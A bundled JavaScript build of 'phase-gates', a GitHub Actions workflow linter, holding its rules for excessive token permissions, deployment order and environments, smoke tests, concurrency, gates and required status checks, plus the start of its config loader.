const GIT_WRITE = /\bgit\s+(?:push|tag|commit|remote|config|credential)|\bgh\s|\bhub\s|semantic-release|changeset|lerna|release-it|standard-version|bumpversion|bump-my-version|goreleaser|ghr\b/;
/** OpenID Connect consumers: registries and clouds that exchange the job's ID token. */
const OIDC = /ACTIONS_ID_TOKEN|\boidc\b|id-token|\b(?:npm|pnpm|yarn|bun|twine|uv|poetry|flit|hatch|cargo|gem|dotnet|nuget)\b[^\n]*\b(?:publish|push|upload)\b|cosign|sigstore|\battest|\baws\b|gcloud|\baz\b|vault|terraform|tofu|pulumi|helm|kubectl|docker\s+(?:push|login)|crane|ko\s+build|goreleaser|jf\b|jfrog|codecov/;
/**
 * The scopes a step may use: a known action's, or a script's. A script gets the token only through
 * an expression or an environment variable (then: `unknown`); it reaches `contents` through the
 * credentials a checkout left in `.git/config` (`git push`, or a program of the repository), and
 * `id-token` through the runner's `ACTIONS_ID_TOKEN_REQUEST_*` variables (an OIDC consumer, or a
 * program of the repository).
 */
function stepScopes(step, job, workflow, credentialsLeft) {
    if (step.uses) {
        const uses = parseUses(step.uses.value);
        if (!uses)
            return 'unknown';
        const name = `${uses.owner}/${uses.repo}`.toLowerCase();
        const full = uses.path ? `${name}/${uses.path.toLowerCase()}` : name;
        const entry = scopes_ACTIONS.get(full) ?? scopes_ACTIONS.get(`${name}/*`);
        if (!entry)
            return 'unknown';
        // The token handed over another way than the action's own token input (a build secret, an environment variable): anything may use it.
        const handed = [...step.with].filter(([key]) => !TOKEN_INPUTS.has(key) && key !== 'password').map(([, e]) => textOf(e.value) ?? '');
        if (tokenIn(handed.join('\n')) || tokenIn(entriesText(step.env)))
            return 'unknown';
        return new Set(typeof entry === 'function' ? entry(step) : entry);
    }
    // The script as written: a run: with `${{ }}` is an expression whose display text stops at its first line.
    const script = textOf(entryOf(step.token, 'run')?.value) ?? step.run?.value ?? '';
    const env = [entriesText(step.env), envText(job.token), envText(workflow.root)].join('\n');
    if (tokenIn(script) || tokenIn(env))
        return 'unknown';
    const scopes = new Set();
    const opaque = OPAQUE.test(script);
    if (credentialsLeft && (opaque || GIT_WRITE.test(script)))
        scopes.add('contents');
    if (opaque || OIDC.test(script))
        scopes.add('id-token');
    return scopes;
}
/** True for an `actions/checkout` that leaves the token in `.git/config` (no `persist-credentials: false`). */
function leavesCredentials(step) {
    const uses = parseUses(step.uses?.value);
    if (!uses || `${uses.owner}/${uses.repo}`.toLowerCase() !== 'actions/checkout')
        return false;
    return textOf(step.with.get('persist-credentials')?.value)?.trim() !== 'false';
}
/** The scopes the steps of a job may use with its token, or `unknown`. */
function jobScopes(job, workflow) {
    if (job.uses)
        return 'unknown';
    const used = new Set();
    let credentials = false;
    for (const step of job.steps) {
        const scopes = stepScopes(step, job, workflow, credentials);
        if (scopes === 'unknown')
            return 'unknown';
        for (const s of scopes)
            used.add(s);
        credentials ||= leavesCredentials(step);
    }
    return used;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/excessive-permissions.js
/** PG216 excessive-permissions: `read-all`, write scopes given to every job, and write scopes no step of the job can use. */



/** The `scope: write` entries of a permissions mapping, each with its key. */
function writeScopes(token) {
    const out = [];
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return out;
    for (const pair of token) {
        const name = textOf(pair.key);
        if (name && textOf(pair.value)?.trim() === 'write')
            out.push({ value: name, at: tokens_posOf(pair.key) });
    }
    return out;
}
/** The fix: drop the scope, or read it only (id-token has no read level). */
const fix = (scope) => (scope === 'id-token' ? 'drop it' : `drop it or lower it to ${scope}: read`);
const isReadAll = (token) => !!token && !(0,dist/* isMapping */.pi)(token) && textOf(token)?.trim() === 'read-all';
/** `jobs` named for a message: `job "a"`, `jobs "a", "b"`. */
function jobsNamed(jobs) {
    const names = jobs.slice(0, 5).map((j) => `"${j.id.value}"`).join(', ') + (jobs.length > 5 ? `, … ${jobs.length - 5} more` : '');
    return `${jobs.length === 1 ? 'job' : 'jobs'} ${names}`;
}
/** Whether no job of `jobs` may use `scope`: every step of each is accounted for, and none uses it. */
function unusedBy(jobs, workflow, scope, cache) {
    return jobs.every((job) => {
        let used = cache.get(job);
        if (!used)
            cache.set(job, (used = jobScopes(job, workflow)));
        return used !== 'unknown' && !used.has(scope);
    });
}
const excessive_permissions_rule = {
    id: 'PG216',
    name: 'excessive-permissions',
    level: 'warning',
    description: 'A token with more than its job uses: `permissions: read-all`, a write scope at the workflow level that every job gets, or a write scope no step of the job can use.',
    help: 'Every step of a job, and every action it runs, can use the job\'s `GITHUB_TOKEN` with all the scopes it was given: a compromised dependency with `contents: write` pushes code, with `id-token: write` signs or publishes as the repository. Reported: `read-all` on a job, or at the top of a workflow with a job that gets it (list the scopes, e.g. `contents: read`); a `write` scope at the top of a workflow of several jobs that also reaches a job that does not use it (move it to the jobs that need it, as zizmor reports it); and a `write` scope that no step of the jobs that get it can use, judged by what the steps do: known actions use known scopes (`softprops/action-gh-release` contents, `peter-evans/create-pull-request` contents and pull-requests, `docker/login-action` to ghcr.io packages, `actions/deploy-pages` pages and id-token, `aws-actions/configure-aws-credentials`, `google-github-actions/auth`, `azure/login` and `pypa/gh-action-pypi-publish` id-token, `actions/attest-build-provenance` id-token and attestations, `github/codeql-action/*` security-events, set-up and cache actions none), a script reaches `contents` through the credentials `actions/checkout` leaves (`git push`, `gh`, or a program of the repository) and `id-token` through the runner\'s OIDC variables (a registry, a cloud CLI, or a program of the repository). A job with a step this cannot account for (an action not in the table, a local or Docker action, a reusable workflow, a script or environment given the token) may use every scope and is not reported. Drop the scope, or lower it to `read`. `write-all` and a missing `permissions:` are missing-permissions (PG202). Differences from zizmor\'s excessive-permissions, on purpose: the unused scopes are ours (zizmor does not look at the steps), also for a workflow of one job, where zizmor reports workflow-level scopes only to its pedantic persona; a workflow-level write scope that every job getting it may use is not reported (moving it changes nothing), nor a `read-all` at the top that no job gets (every job sets its own); default permissions are reported per job by missing-permissions, not once more for the workflow.',
    create(context) {
        return {
            workflowPre(workflow) {
                const top = workflow.permissions;
                const used = new Map();
                const inheriting = workflow.jobs.filter((j) => !j.permissions);
                // A workflow's permissions reach only the jobs without their own: none, and the top is dead (zizmor: pedantic).
                if (top && isReadAll(top.value) && inheriting.length)
                    context.report(workflow.file, top.key, 'permissions: read-all gives the token read access to every scope; list only the scopes the workflow reads (e.g. contents: read)');
                const reusableOnly = workflow.on.size === 1 && workflow.on.has('workflow_call');
                // zizmor's regular persona: several jobs, not all with their own permissions, and not only a reusable workflow.
                const everyJob = workflow.jobs.length > 1 && inheriting.length > 0 && !reusableOnly;
                for (const scope of top ? writeScopes(top.value) : []) {
                    if (inheriting.length && unusedBy(inheriting, workflow, scope.value, used)) {
                        context.report(workflow.file, scope, `${scope.value}: write is given to ${jobsNamed(inheriting)} at the workflow level, and no step of ${inheriting.length === 1 ? 'it' : 'them'} uses it; ${fix(scope.value)}`);
                    }
                    else if (everyJob) {
                        // Only when it goes to a job that does not use it: where every job may, moving it changes nothing.
                        const idle = inheriting.filter((j) => unusedBy([j], workflow, scope.value, used));
                        if (idle.length)
                            context.report(workflow.file, scope, `${scope.value}: write at the workflow level also gives write access to ${jobsNamed(idle)}, which ${idle.length === 1 ? 'does' : 'do'} not use it; set it on the jobs that need it`);
                    }
                }
                for (const job of workflow.jobs) {
                    if (!job.permissions)
                        continue;
                    const key = entryOf(job.token, 'permissions')?.key ?? job.id;
                    if (isReadAll(job.permissions))
                        context.report(workflow.file, key, `job "${job.id.value}" has permissions: read-all, which gives the token read access to every scope; list only the scopes the job reads (e.g. contents: read)`);
                    for (const scope of writeScopes(job.permissions)) {
                        if (unusedBy([job], workflow, scope.value, used))
                            context.report(workflow.file, scope, `${scope.value}: write is not used by any step of job "${job.id.value}"; ${fix(scope.value)}`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const excessive_permissions = (excessive_permissions_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/index.js











const permissions_family = {
    name: 'permissions',
    title: 'Permissions and secrets',
    description: 'What the token may do and where secrets go.',
    rules: [
        missing_permissions,
        hardcoded_secret,
        anonymous_definition,
        undocumented_permissions,
        insecure_commands,
        secrets_inherit,
        overprovisioned_secrets,
        unredacted_secrets,
        self_hosted_runner,
        github_env,
        excessive_permissions
    ]
};
/* harmony default export */ const permissions = (permissions_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/production-before-staging.js


const production_before_staging_rule = {
    id: 'PG300',
    name: 'production-before-staging',
    level: 'error',
    description: 'A production deploy job that does not come after a staging deploy job of the same workflow (through `needs:`).',
    help: 'The deployment policy says: deploy to staging before production, always. A job deploying to `production` (or `prod`, by its `environment:` or the deploy action\'s `environment` input) must wait, directly or through other jobs, for a job deploying to `staging` in the same workflow, so that a commit reaches production only after it ran in staging. Add the staging deploy job to the production job\'s `needs:`.',
    create(context) {
        return {
            workflowPost(workflow) {
                const deploys = deployJobs(workflow);
                const staging = new Set(deploys.filter((d) => d.staging && !d.production).map((d) => d.job));
                const afterStaging = reachable(workflow, staging, 'downstream');
                for (const d of deploys) {
                    if (!d.production)
                        continue;
                    if (afterStaging.has(d.job))
                        continue;
                    const hint = staging.size ? ` (add ${staging.size === 1 ? nameList([...staging].map((j) => j.id.value)) : `one of ${nameList([...staging].map((j) => j.id.value))}`} to its needs)` : ' (the workflow has no staging deploy job)';
                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not come after a staging deploy${hint}`);
                }
            }
        };
    }
};
/* harmony default export */ const production_before_staging = (production_before_staging_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-environment.js

const deploy_without_environment_rule = {
    id: 'PG301',
    name: 'deploy-without-environment',
    level: 'warning',
    description: 'A deploy job that is not bound to an `environment:`.',
    help: 'GitHub environments carry the protection rules of a deployment (required reviewers, wait timers, allowed branches) and its secrets, and record the deployment history. A job that changes a running service (our deploy action under any repository name; a deploy action such as cloudflare/wrangler-action, azure/webapps-deploy or google-github-actions/deploy-cloudrun; a deploy command such as `wrangler deploy`, `flyctl deploy`, `./deploy.sh`, `make deploy` or `npm run deploy`; or, in a job named for deploying, `kubectl apply`, `helm upgrade` or `terraform apply`) without `environment:` bypasses all of them. Add `environment: <name>` (or `environment: { name, url }`) to the job. Package publishes, image builds, tag moves and approval-only jobs are not deploys.',
    create(context) {
        return {
            workflowPost(workflow) {
                for (const d of deployJobs(workflow)) {
                    if (d.job.environment !== undefined)
                        continue;
                    const target = d.environments.length ? ` (it deploys to "${d.environments[0]}")` : '';
                    context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" is not bound to an environment:${target}`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_environment = (deploy_without_environment_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-smoke-test.js

const deploy_without_smoke_test_rule = {
    id: 'PG302',
    name: 'deploy-without-smoke-test',
    level: 'warning',
    description: 'A deploy job that no smoke test follows: neither a later step of the job nor a job that needs it.',
    help: 'The deployment policy says: run smoke tests after deployment. After the deploy step, a step of the same job must use our smoke-test action or probe the service (`curl`, `wget`, a health check, or end-to-end tests after the deploy: `e2e`), or a job that needs the deploy job must do so. The root action (`phase-gates@…`) runs its smoke tests itself.',
    create(context) {
        return {
            workflowPost(workflow) {
                const beforeSmoke = reachable(workflow, workflow.jobs.filter((j) => j.steps.some(isSmokeStep)), 'upstream');
                for (const d of deployJobs(workflow)) {
                    if (d.rootAction)
                        continue;
                    const after = d.deployStep?.index ?? -1;
                    if (d.job.steps.some((s) => s.index > after && isSmokeStep(s)))
                        continue;
                    if (beforeSmoke.has(d.job))
                        continue;
                    const at = d.deployStep ? (d.deployStep.uses ?? d.deployStep.run ?? d.deployStep) : d.job.id;
                    context.report(workflow.file, at, `deploy job "${d.job.id.value}" is not followed by a smoke test (a smoke-test step after the deploy, or a job that needs it and runs one)`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_smoke_test = (deploy_without_smoke_test_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-without-concurrency.js

const deploy_without_concurrency_rule = {
    id: 'PG303',
    name: 'deploy-without-concurrency',
    level: 'warning',
    description: 'A deploy job without `concurrency:` (on the job or its workflow), or with `cancel-in-progress: true`.',
    help: 'Two runs deploying the same environment at once race each other; a `concurrency:` group (e.g. `group: deploy-${{ github.ref }}-production`) serializes them. `cancel-in-progress: true` cancels the deploy that is running when a new one starts, which leaves the environment half-deployed: keep it `false` (the default) for deploy jobs and for workflows that contain them.',
    create(context) {
        return {
            workflowPost(workflow) {
                const deploys = deployJobs(workflow);
                if (!deploys.length)
                    return;
                const workflowCancel = mappingValue(workflow.concurrency?.value, 'cancel-in-progress');
                if (isTrue(workflowCancel)) {
                    const ids = deploys.map((d) => `"${d.job.id.value}"`).join(', ');
                    context.report(workflow.file, deploy_jobs_nodeOf(workflowCancel), `workflow concurrency cancels in progress, which can cancel deploy job${deploys.length > 1 ? 's' : ''} ${ids} half-way`);
                }
                for (const d of deploys) {
                    if (d.job.concurrency === undefined) {
                        if (workflow.concurrency === undefined) {
                            context.report(workflow.file, d.job.id, `deploy job "${d.job.id.value}" has no concurrency: group, so two deploys can run at once`);
                        }
                        continue;
                    }
                    const cancel = mappingValue(d.job.concurrency, 'cancel-in-progress');
                    if (isTrue(cancel)) {
                        context.report(workflow.file, deploy_jobs_nodeOf(cancel), `deploy job "${d.job.id.value}" cancels in progress, which can leave the environment half-deployed`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const deploy_without_concurrency = (deploy_without_concurrency_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-before-gates.js

const deploy_before_gates_rule = {
    id: 'PG304',
    name: 'deploy-before-gates',
    level: 'error',
    description: 'A production deploy job that does not need (directly or through other jobs) a gates job.',
    help: 'The deployment policy forbids deploying without automated tests passing. A production deploy job must wait, through `needs:`, for a job that enforces the gates: one that uses our gates-enforcer action (`…/actions/gates-enforcer`) or is named `gates` / `gates_enforcer`; a gates-enforcer step before the deploy step in the same job counts too, and the root action (`phase-gates@…`) enforces the gates itself.',
    create(context) {
        return {
            workflowPost(workflow) {
                const afterGates = reachable(workflow, workflow.jobs.filter(isGatesJob), 'downstream');
                for (const d of deployJobs(workflow)) {
                    if (!d.production || d.rootAction)
                        continue;
                    const before = d.deployStep?.index ?? d.job.steps.length;
                    if (d.job.steps.some((s) => s.index < before && isGatesStep(s)))
                        continue;
                    if (afterGates.has(d.job))
                        continue;
                    context.report(workflow.file, d.job.id, `production deploy job "${d.job.id.value}" does not need a gates job (one running gates-enforcer), so it can deploy without the gates passing`);
                }
            }
        };
    }
};
/* harmony default export */ const deploy_before_gates = (deploy_before_gates_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/index.js





const deployment_family = {
    name: 'deployment',
    title: 'Deployment policy',
    description: 'The deployment policy: staging before production, environments, smoke tests, concurrency, gates.',
    rules: [
        production_before_staging,
        deploy_without_environment,
        deploy_without_smoke_test,
        deploy_without_concurrency,
        deploy_before_gates
    ]
};
/* harmony default export */ const deployment = (deployment_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-checks.js
/**
 * Shared by the required-checks rules (PG400–PG402): the status check names the jobs of the
 * checked workflows produce, as GitHub forms them, and whether a pull request can skip them.
 */

/** Pull request triggers whose filters leave a check pending forever. */
const PR_TRIGGERS = ['pull_request', 'pull_request_target'];
const required_checks_FILTERS = ['paths', 'paths-ignore', 'branches', 'branches-ignore'];
/** Reads the source once per source object, whatever rule asks first. */
const states = new WeakMap();
function readRequired(source) {
    let p = states.get(source);
    if (!p) {
        p = source.read();
        states.set(source, p);
    }
    return p;
}
/** Most jobs a matrix may make in a workflow run (GitHub's limit). */
const MAX_MATRIX_JOBS = 256;
function literal(token) {
    return token && (0,dist/* isLiteral */.c$)(token) ? token.toString() : undefined;
}
/** The literal matrix combinations of a job (axes, minus exclude, plus include); undefined when it has no matrix or it is not literal. */
function matrixCombinations(job) {
    const strategy = job.strategy;
    if (!strategy || !(0,dist/* isMapping */.pi)(strategy))
        return undefined;
    let matrix;
    for (const pair of strategy)
        if (literal(pair.key) === 'matrix')
            matrix = pair.value;
    if (!matrix)
        return undefined;
    if (!(0,dist/* isMapping */.pi)(matrix))
        return 'dynamic';
    const axes = [];
    const include = [];
    const exclude = [];
    const objects = (token, into) => {
        if (!(0,dist/* isSequence */.wZ)(token))
            return false;
        for (const item of token) {
            if (!(0,dist/* isMapping */.pi)(item))
                return false;
            const o = {};
            for (const p of item) {
                const k = literal(p.key);
                const v = literal(p.value);
                if (k === undefined || v === undefined)
                    return false;
                o[k] = v;
            }
            into.push(o);
        }
        return true;
    };
    for (const pair of matrix) {
        const key = literal(pair.key);
        if (key === undefined)
            return 'dynamic';
        if (key === 'include' || key === 'exclude') {
            if (!objects(pair.value, key === 'include' ? include : exclude))
                return 'dynamic';
            continue;
        }
        if (!(0,dist/* isSequence */.wZ)(pair.value))
            return 'dynamic';
        const values = [];
        for (const v of pair.value) {
            const s = literal(v);
            if (s === undefined)
                return 'dynamic';
            values.push(s);
        }
        axes.push([key, values]);
    }
    // GitHub refuses a matrix of more than 256 jobs (https://docs.github.com/en/actions/reference/limits):
    // such a product is not expanded (it would be exponential in the axes), its names stay unknown.
    if (axes.reduce((n, [, values]) => n * Math.max(values.length, 1), 1) > MAX_MATRIX_JOBS)
        return 'dynamic';
    let combos = axes.length ? [{}] : [];
    for (const [key, values] of axes)
        combos = combos.flatMap((c) => values.map((v) => ({ ...c, [key]: v })));
    combos = combos.filter((c) => !exclude.some((e) => Object.entries(e).every(([k, v]) => c[k] === v)));
    const axisNames = new Set(axes.map(([k]) => k));
    for (const inc of include) {
        // Added to every combination whose original values it does not overwrite; else a new combination.
        const matching = combos.filter((c) => Object.entries(inc).every(([k, v]) => !axisNames.has(k) || c[k] === v));
        if (matching.length) {
            for (const c of matching)
                Object.assign(c, inc);
        }
        else {
            combos.push({ ...inc });
            if (combos.length > MAX_MATRIX_JOBS)
                return 'dynamic';
        }
    }
    return combos;
}
/**
 * The parser turns `test-${{ matrix.os }}` into `${{ format('test-{0}', matrix.os) }}`: back to
 * the template, so that matrix values expand into it.
 */
function templateText(value) {
    const m = /^\$\{\{\s*format\('((?:[^']|'')*)'\s*((?:,\s*[^,()]+?)*)\s*\)\s*\}\}$/.exec(value);
    if (!m)
        return value;
    const args = m[2].split(',').map((a) => a.trim()).filter(Boolean);
    return m[1]
        .replace(/''/g, "'")
        .replace(/\{\{|\}\}|\{(\d+)\}/g, (whole, i) => (whole === '{{' ? '{' : whole === '}}' ? '}' : args[Number(i)] !== undefined ? `\${{ ${args[Number(i)]} }}` : whole));
}
const EXPRESSION = /\$\{\{\s*(.*?)\s*\}\}/g;
/** A job's check names as GitHub forms them (a regexp where run-time values remain). */
function jobCheckNames(job) {
    const base = job.name ? templateText(job.name.value) : job.id.value;
    const combos = matrixCombinations(job);
    const expand = (text, values) => {
        let dynamic = false;
        const name = text.replace(EXPRESSION, (whole, expr) => {
            const m = /^matrix\.([\w-]+)$/.exec(expr);
            if (m && m[1] in values)
                return values[m[1]];
            dynamic = true;
            return whole;
        });
        if (!dynamic)
            return { name };
        const source = name
            .split(EXPRESSION)
            .map((part, i) => (i % 2 ? '.*' : part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')))
            .join('');
        return { name, pattern: new RegExp(`^${source}$`) };
    };
    if (combos === undefined || (Array.isArray(combos) && combos.length === 0))
        return [expand(base, {})];
    if (combos === 'dynamic')
        return [/\$\{\{[^}]*matrix\./.test(base) ? expand(base, {}) : expand(`${base} (\${{ matrix }})`, {})];
    const usesMatrix = /\$\{\{[^}]*matrix\./.test(base);
    return combos.map((c) => (usesMatrix ? expand(base, c) : expand(`${base} (${Object.values(c).join(', ')})`, c)));
}
/** An `if:` that can be false: anything but `always()` and `true`. */
function canSkip(condition) {
    if (condition === undefined)
        return false;
    const c = condition.trim().replace(/^\$\{\{\s*(.*?)\s*\}\}$/, '$1').trim();
    return !(c === 'true' || c === 'always()');
}
/** The filters of a workflow's pull request triggers that can leave it unstarted, e.g. `pull_request.paths`. */
function prFilter(workflow) {
    for (const trigger of PR_TRIGGERS) {
        const entry = workflow.on.get(trigger);
        if (!entry || !(0,dist/* isMapping */.pi)(entry.value))
            continue;
        for (const pair of entry.value) {
            const key = literal(pair.key);
            if (key && required_checks_FILTERS.includes(key)) {
                const at = pair.key.range ? { line: pair.key.range.start.line, column: pair.key.range.start.column } : entry.key.at;
                return { reason: `\`${trigger}.${key}\` of workflow ${workflow.file.path}`, node: { at } };
            }
        }
    }
    return undefined;
}
/** Every check name the jobs of the checked workflows produce, reusable workflows followed one level per call. */
function producedChecks(project) {
    const out = [];
    for (const file of project.files) {
        const workflow = file.model;
        if (!workflow || workflow.kind !== 'workflow')
            continue;
        // A workflow only others call produces its checks under its callers' names.
        if (workflow.on.size === 1 && workflow.workflowCall)
            continue;
        const filter = prFilter(workflow);
        for (const job of workflow.jobs) {
            const jobSkip = canSkip(job.if?.value) ? { reason: `the \`if:\` of job "${job.id.value}"`, node: job.if } : undefined;
            const skip = filter ? { ...filter, hard: true } : jobSkip ? { ...jobSkip, hard: false } : undefined;
            const names = jobCheckNames(job);
            if (!job.uses) {
                for (const n of names)
                    out.push({ ...n, workflow, job, skip });
                continue;
            }
            const callee = project.local(job.uses.value);
            for (const caller of names) {
                if (!callee || callee.kind !== 'workflow') {
                    out.push({ name: `${caller.name} / …`, pattern: new RegExp(`^${required_checks_escape(caller.name)} / .*$`), workflow, job, skip });
                    continue;
                }
                for (const inner of callee.jobs) {
                    const innerSkip = skip ?? (canSkip(inner.if?.value) ? { reason: `the \`if:\` of job "${inner.id.value}" in ${callee.file.path}`, node: job.uses, hard: false } : undefined);
                    for (const n of jobCheckNames(inner)) {
                        const name = `${caller.name} / ${n.name}`;
                        const pattern = caller.pattern || n.pattern ? new RegExp(`^${caller.pattern ? caller.pattern.source.slice(1, -1) : required_checks_escape(caller.name)} / ${n.pattern ? n.pattern.source.slice(1, -1) : required_checks_escape(n.name)}$`) : undefined;
                        out.push({ name, pattern, workflow, job, skip: innerSkip });
                    }
                }
            }
        }
    }
    return out;
}
function required_checks_escape(text) {
    return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
/** The produced checks that give `name`. */
function producersOf(name, produced) {
    return produced.filter((p) => p.name === name || (p.pattern?.test(name) ?? false));
}
/** Where a finding about the whole set goes: the first workflow file (its `on:` pull request trigger or its top). */
function firstWorkflow(project) {
    for (const file of project.files) {
        const model = file.model;
        if (model?.kind !== 'workflow')
            continue;
        const trigger = PR_TRIGGERS.map((t) => model.on.get(t)).find(Boolean);
        return { workflow: model, node: trigger?.key ?? model.name ?? { at: { line: 1, column: 1 } } };
    }
    return undefined;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-required.js


const required_check_not_required_rule = {
    id: 'PG400',
    name: 'required-check-not-required',
    level: 'error',
    description: 'A status check of the `required-checks` input that neither branch protection nor a ruleset of the base branch requires.',
    help: 'A gate only protects the branch when its check is required: otherwise a pull request merges while `workflows_validation` or `gates_enforcer` fails or never ran. Add the check to the required status checks of the base branch (branch protection, or a ruleset with a "Require status checks to pass" rule), or change the `required-checks` input. Read with the `token` input; branch protection needs a token with administration read access (rulesets need only metadata), so with `GITHUB_TOKEN` alone only rulesets are known and this rule stays silent.',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await readRequired(context.requiredChecks);
            },
            finish() {
                const source = context.requiredChecks;
                if (!source || !state || state.partial)
                    return;
                const required = new Set(state.required);
                const produced = producedChecks(context.project);
                const first = firstWorkflow(context.project);
                for (const name of source.expected) {
                    if (required.has(name))
                        continue;
                    const producer = producersOf(name, produced)[0];
                    const where = producer ? { file: producer.workflow.file, node: producer.job.name ?? producer.job.id } : first && { file: first.workflow.file, node: first.node };
                    if (!where)
                        continue;
                    context.report(where.file, where.node, `check "${name}" is not required on branch "${state.branch}" (required: ${nameList(state.required)})`);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_not_required = (required_check_not_required_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-not-produced.js

const required_check_not_produced_rule = {
    id: 'PG401',
    name: 'required-check-not-produced',
    level: 'warning',
    description: 'A status check the base branch requires that no job of the checked workflows produces under that name.',
    help: 'GitHub names a check after the job: its `name:` (matrix values expanded), else its id; a matrix job without a name gives `id (value, value)` per combination, and a job calling a reusable workflow gives `caller / job`. A required check that nothing reports stays "Expected — Waiting for status to be reported" and blocks every pull request. Rename the job or fix the required check. A check that a GitHub App reports (not a workflow) is also reported here: disable the rule for it with `# phase-gates-disable PG401` or in the config.',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await readRequired(context.requiredChecks);
            },
            finish() {
                if (!state)
                    return;
                const first = firstWorkflow(context.project);
                if (!first)
                    return;
                const produced = producedChecks(context.project);
                for (const name of state.required) {
                    if (producersOf(name, produced).length)
                        continue;
                    context.report(first.workflow.file, first.node, `required check "${name}" of branch "${state.branch}" is produced by no job of the checked workflows`);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_not_produced = (required_check_not_produced_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/required-check-skippable.js

const required_check_skippable_rule = {
    id: 'PG402',
    name: 'required-check-skippable',
    level: 'warning',
    description: 'A required status check produced only by workflows whose pull request trigger has `paths`/`branches` filters, or only by jobs with an `if:` that can skip them.',
    help: 'A workflow that a `paths`, `paths-ignore`, `branches` or `branches-ignore` filter does not start never reports its checks, so a pull request that touches other files waits forever for a required check (error). A job that its `if:` skips reports success without running, so the required check passes unverified (warning). Produce the required check from a job that always runs (drop the filter and decide inside the job, or add a job with the same name that runs when the filter does not match).',
    create(context) {
        let state;
        return {
            async prepare() {
                if (context.requiredChecks)
                    state = await readRequired(context.requiredChecks);
            },
            finish() {
                if (!state)
                    return;
                const produced = producedChecks(context.project);
                for (const name of state.required) {
                    const producers = producersOf(name, produced);
                    if (!producers.length || producers.some((p) => !p.skip))
                        continue;
                    const hard = producers.find((p) => p.skip.hard);
                    const p = hard ?? producers[0];
                    const skip = p.skip;
                    const why = hard ? 'a pull request it does not start waits for it forever' : 'a skipped job reports success without running';
                    context.report(p.workflow.file, skip.node, `required check "${name}" can be skipped by ${skip.reason}: ${why}`, hard ? 'error' : undefined);
                }
            }
        };
    }
};
/* harmony default export */ const required_check_skippable = (required_check_skippable_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/required-checks/index.js



const required_checks_family = {
    name: 'required-checks',
    title: 'Required checks',
    description: 'The status checks the base branch requires, against the jobs that produce them.',
    rules: [
        required_check_not_required,
        required_check_not_produced,
        required_check_skippable
    ]
};
/* harmony default export */ const required_checks = (required_checks_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/index.js







/** The families, in the order docs/rules.md presents them. */
const FAMILIES = [syntax, scripts, supply_chain, injection, permissions, deployment, required_checks];
/** Every rule, in id order. */
// Ids are ASCII (`PG123`): a plain comparison, not localeCompare, whose ICU collator costs tens of ms at start-up.
const RULES = FAMILIES.flatMap((f) => f.rules).sort((a, b) => (a.id < b.id ? -1 : a.id > b.id ? 1 : 0));
const FAMILY_OF = new Map(FAMILIES.flatMap((f) => f.rules.map((r) => [r, f])));
/** The family a rule belongs to. */
function rules_familyOf(rule) {
    const family = FAMILY_OF.get(rule);
    if (!family)
        throw new Error(`rule ${rule.id} is in no family`);
    return family;
}
/** The rule with this id or kebab-case name. */
function findRule(idOrName) {
    const key = idOrName.trim();
    return RULES.find((r) => r.id.toLowerCase() === key.toLowerCase() || r.name === key);
}
/** The docs anchor of a rule: its heading in docs/rules.md. */
function docsAnchor(rule) {
    return `${rule.id.toLowerCase()}-${rule.name}`;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/config.js
/**
 * `.github/phase-gates.yml`, the rule settings of workflows-validation (internal):
 *
 * ```yaml
 * rules:
 *   PG112: warning                 # change a level (error, warning, note)
 *   needs-cycle: off               # disable, by id or name
 * ignore:
 *   - test/fixtures/**             # files never checked
 * allow:
 *   owners: [acme]                 # trusted owners (security rules)
 *   actions: [docker/build-push-action]
 * forbidden-uses:                  # zizmor's forbidden-uses: allow OR deny repository patterns
 *   deny: [some-org/*]             # (*, owner/*, owner/repo/*, owner/repo[/path][@ref])
 * runners:
 *   self-hosted: [gpu, linux-arm64-*]  # labels of your own and larger runners (runs-on:)
 * shellcheck:
 *   severity: style                # lowest shellcheck level reported: error, warning (default), info, style
 *   path: /usr/bin/shellcheck      # the executable (default: shellcheck on PATH)
 * ```
 *
 * Every error names the config file and line, all collected before failing.
 */





const EMPTY_CONFIG = { rules: new Map(), ignore: [], settings: { allowActions: [], allowOwners: [] } };
const LEVELS = ['error', 'warning', 'note', 'off'];
/** shellcheck's levels, for `shellcheck.severity`. */
const SHELLCHECK_LEVELS = ['error', 'warning', 'info', 'style'];
/**
 * Reads the config at `abs` (shown as `shown`). A missing file is no config unless `explicit`
 * (the user named it). `input` is the input errors are attributed to.
 */
async function loadConfig(abs, shown, input, explicit, rules) {
    let text;
    try {
        const stat = await external_node_fs_.promises.stat(abs);
        if (stat.size > YAML_BOUNDS.config.maxBytes) {
            const problem = await oversizeProblem(abs, stat.size, YAML_BOUNDS.config);
            throw new core_errors/* UserError */.y(problem.message, { input, file: shown, line: problem.line });
        }
        text = await external_node_fs_.promises.readFile(abs, 'utf8');
    }
    catch (err) {
        if (err instanceof core_errors/* UserError */.y)
            throw err;
